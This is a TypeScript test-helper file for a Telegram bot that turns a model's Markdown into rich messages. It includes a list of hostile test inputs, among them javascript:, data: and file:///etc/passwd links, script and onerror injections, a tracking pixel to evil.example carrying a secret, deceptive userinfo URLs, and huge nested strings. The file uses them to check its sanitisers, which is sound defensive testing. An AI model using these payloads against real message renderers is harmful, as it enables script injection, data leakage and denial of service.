import type { InputRichMessage, MessageEntity, RichBlock } from '@grammyjs/types';
import { expect } from 'vitest';
import { checkRichLimits } from '../../test/sandbox/telegram/rich/limits.ts';
import { type Block, blocksContent, type Text } from './blocks.ts';
import type { ClassicMessage } from './markup.ts';
import { safeAddress } from './reading/safeLink.ts';

/** One of everything a model writes. */
export const realisticAnswer = `# Sorting in *Python*

Use \`sorted()\` or **\`list.sort()\`**; the docs are [here](https://docs.python.org/3/howto/sorting.html). It costs \\(O(n \\log n)\\), about $5 and not $10.

\`\`\`python
def sort(items: list[int]) -> list[int]:
\tif not items:
        return []

    return sorted(items)  # *stable* & <b>fast</b>
\`\`\`

1. **Read** the input:
   \`\`\`sh
   cat "$HOME/in.txt" | sort
   \`\`\`
2. Sort it
   - in place
     - or not
   - [x] checked
   - [ ] not checked
3. Write it

> Quoted **text**
>
> - with a list

| Name | Cost | Note |
|:-----|:----:|-----:|
| merge | $n \\log n$ | ~~bad~~ good |
| quick | n² | \`a \\| b\` |

\\[
T(n) = 2T\\left(\\frac{n}{2}\\right)
+ n
\\]

$$E = mc^2$$

<details><summary>More <b>details</b></summary>

H<sub>2</sub>O, <kbd>Ctrl</kbd>, <u>under</u>

</details>

Footnote[^1], see [the docs][docs]. Привет, мир! 你好 👩‍👩‍👧 שלום

[^1]: The note.
[docs]: https://example.com/docs

---

The end.
`;

/** What must never become live, break the message, or take long. */
export const hostileSnippets = [
  '<tg-button type="url" url="https://evil.example">press</tg-button>',
  '<tg-button type="callback_data" data="stop">x',
  '<tg-map lat="41.9" long="12.5" zoom="14"/>',
  '<tg-collage>\n\n![](https://evil.example/a.png)\n\n</tg-collage>',
  '![](https://evil.example/pixel.gif?q=secret)',
  '![👍](tg://emoji?id=5368324170671202286)',
  '[you](tg://user?id=123456789)',
  '<a href="tg://user?id=1">you</a> <a name="x"></a> [up](#x)',
  '[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x](data:text/html,x) [x](file:///etc/passwd)',
  '[x](java&#x73;cript:alert(1)) [x](<tg://resolve?domain=x>) <tg://resolve?domain=x>',
  '[bank](https://bank.example@evil.example/) [x](http://localhost:1/) [x](//evil.example/x)',
  '[x]: tg://user?id=1\n\n[x] ![x]',
  '<img src="https://evil.example/a.png" onerror="x"/> <script>alert(1)</script> <!-- <b> -->',
  '<b onclick="x">bold</b> <b>open <i>crossed</b></i> </u> <details open><summary>s',
  '</details> <details>\n<summary>x</summary>\n\n<details>\n\n- a\n</details>',
  '/stop @durov #tag $USD a@b.c +12345678901 tg://resolve?domain=x ton://transfer/x',
  '@**durov** /**reset** [@durov](https://x.example) **@durov and /stop**',
  '<tg-thinking>hm</tg-thinking> <tg-spoiler>hidden</tg-spoiler> <tg-time unix="1">x</tg-time>',
  '```\nunclosed *code*',
  '~~~~ ```\n~~~\n```',
  '````md\n```js\nx\n```\n````',
  '```math\n\\frac{a',
  '$$\nunclosed',
  '\\[ x',
  '$a$b$ $$$ $$ $ $x `$y` \\$5$ $$a$$$',
  '**bold *italic ~~gone `code',
  '[label](https://example.com/half',
  '| a | b |\n|---',
  '| a |\n|---|\n| b | c | d |\n|',
  `${'|a'.repeat(25)}|\n${'|-'.repeat(25)}|\n${'|b'.repeat(25)}|`,
  '>'.repeat(10_000),
  '- '.repeat(1000),
  '['.repeat(4000),
  `${'['.repeat(1000)}${']'.repeat(1000)}(x)`,
  '[^1]:'.repeat(1000),
  `${'*a\n'.repeat(400)}${'a*\n'.repeat(400)}`,
  '<details>\n'.repeat(800),
  '<b>'.repeat(800),
  '<ul>\n'.repeat(1500),
  '<ul><li>'.repeat(400),
  '<table><tr><td>'.repeat(300),
  '| a | b |\n|---|---|\n| ` || $x || `` |',
  '> 1. a\n  - b\n   | c |\n|---|',
  '\\begin{align}\n'.repeat(100),
  '```md\n\n```\nx\n'.repeat(50),
  '[a]: https://a.example/\n'.repeat(200),
  '[1][2][a][]'.repeat(200),
  '> [!NOTE]\n> [!',
  '<a href="https://evil.example@good.example">x</a> <img src="tg://x"> https://a\u202eb.example',
  `${'<details>\n\n'.repeat(200)}x`,
  Array.from({ length: 40 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n'),
  `<details><summary>${'long '.repeat(9000)}</summary>\n\nx\n\n</details>`,
  'x'.repeat(1_000_000),
  'мир '.repeat(30_000),
  '漢字'.repeat(20_000),
  '👩‍👩‍👧'.repeat(5000),
  'a\u0301'.repeat(9000),
  '\u0301'.repeat(9000),
  '\u202eright to left\u2066 isolated \u2069\u200f'.repeat(300),
  'שלום עולם, זה טקסט ארוך. '.repeat(2000),
  'nul\0nul \ud800 half \udc00 pair\r\nline\rline\ufeff',
  '\t\ttabs\n\n    indented code\n\twith a tab',
  '&amp; &lt;b&gt; &#0; &#xD800; &nbsp; \\* \\_ \\[x\\]',
  '===\n---\n***\n___\n- - -\n* * *',
  '&nbsp;',
  '```\n```',
  '-',
  '1.',
  '#',
  '>',
  '    ',
];

const blockTypes = new Set(
  'paragraph heading pre footer divider mathematical_expression list blockquote table details'.split(' '),
);
const textTypes = new Set(
  'bold italic underline strikethrough spoiler marked subscript superscript code url mathematical_expression'.split(
    ' ',
  ),
);

/** Everything that must hold for any rich message made of a model's words. */
export function expectSafeRich(message: InputRichMessage<never>, draft = false): Block[] {
  expect(Object.keys(message).filter((key) => !['blocks', 'is_rtl'].includes(key))).toEqual([
    'skip_entity_detection',
  ]);
  expect(message.skip_entity_detection).toBe(true);
  const [first, ...rest] = message.blocks ?? [];
  const blocks = (draft && first?.type === 'thinking' ? rest : (message.blocks ?? [])) as Block[];
  // The stand-in's own measure of Telegram's limits; input blocks and those that are received look alike there.
  checkRichLimits(message.blocks as RichBlock[]);
  for (const block of blocks) expectSafeBlock(block);
  return blocks;
}

function expectSafeBlock(block: Block): void {
  if (!blockTypes.has(block.type)) throw new Error(`a block of type ${block.type}`);
  if ('text' in block) expectSafeText(block.text);
  if (block.type === 'details') expectSafeText(block.summary);
  if ('blocks' in block) {
    if (block.blocks.length === 0) throw new Error(`an empty ${block.type}`);
    block.blocks.forEach(expectSafeBlock);
  }
  if (block.type === 'table')
    for (const row of block.cells) for (const cell of row) expectSafeText(cell.text);
  if (block.type === 'list') {
    const numbered = block.items.filter((item) => item.type === '1' && item.value !== undefined);
    if (block.items.length === 0 || ![0, block.items.length].includes(numbered.length))
      throw new Error('a mixed list');
    for (const item of block.items) {
      if (item.blocks.length === 0) throw new Error('an empty item');
      item.blocks.forEach(expectSafeBlock);
    }
  }
}

function expectSafeText(text: Text): void {
  if (typeof text === 'string') {
    if (Buffer.byteLength(text) > 35_000) throw new Error('a string that the server would cut');
    if (/\p{Surrogate}|\0/u.test(text)) throw new Error('a string that the server would refuse');
  } else if (Array.isArray(text)) {
    text.forEach(expectSafeText);
  } else {
    if (!textTypes.has(text.type)) throw new Error(`a text of type ${text.type}`);
    if (text.type === 'url' && safeAddress(text.url) !== text.url) throw new Error(`a link to ${text.url}`);
    if ('text' in text) expectSafeText(text.text);
  }
}

const entityTypes = new Set(
  'bold italic underline strikethrough spoiler code pre text_link blockquote expandable_blockquote'.split(
    ' ',
  ),
);

/** Everything that must hold for any classic message made of a model's words. */
export function expectSafeClassic({ text, entities }: ClassicMessage): void {
  if (text.length > 4096 || text.trim() === '') throw new Error(`a text of ${text.length}`);
  if (/\p{Surrogate}|\0/u.test(text)) throw new Error('a text that the server would refuse');
  if (entities.length > 100) throw new Error(`${entities.length} entities`);
  const open: MessageEntity[] = [];
  let last = 0;
  for (const entity of entities) {
    const end = entity.offset + entity.length;
    if (!entityTypes.has(entity.type)) throw new Error(`an entity of type ${entity.type}`);
    if (entity.type === 'text_link' && safeAddress(entity.url) !== entity.url) throw new Error(entity.url);
    if (entity.offset < last || entity.length < 1 || end > text.length)
      throw new Error('out of bounds or order');
    if (isLowSurrogate(text, entity.offset) || isLowSurrogate(text, end)) throw new Error('half a character');
    last = entity.offset;
    while (open.length > 0 && endOf(open.at(-1)) <= entity.offset) open.pop();
    for (const outer of open) {
      if (endOf(outer) < end) throw new Error(`${entity.type} crosses ${outer.type}`);
      if (!mayHold(outer, entity)) throw new Error(`${entity.type} in ${outer.type}`);
    }
    open.push(entity);
  }
}

const fixed = ['code', 'pre', 'text_link'];
const styles = ['bold', 'italic', 'underline', 'strikethrough', 'spoiler'];

function mayHold(outer: MessageEntity, inner: MessageEntity): boolean {
  if (outer.type.includes('blockquote')) return !inner.type.includes('blockquote');
  if (outer.type === 'code' || outer.type === 'pre') return false;
  if (fixed.includes(outer.type)) return styles.includes(inner.type);
  return inner.type === 'text_link' || (styles.includes(inner.type) && inner.type !== outer.type);
}

function endOf(entity: MessageEntity | undefined): number {
  return entity ? entity.offset + entity.length : 0;
}

function isLowSurrogate(text: string, index: number): boolean {
  return /^[\udc00-\udfff]/.test(text.slice(index, index + 1));
}

/** The words of all messages in order, without their shape. */
export function wordsOf(messages: readonly InputRichMessage<never>[]): string {
  return messages.map((message) => blocksContent((message.blocks ?? []) as Block[])).join('\n');
}
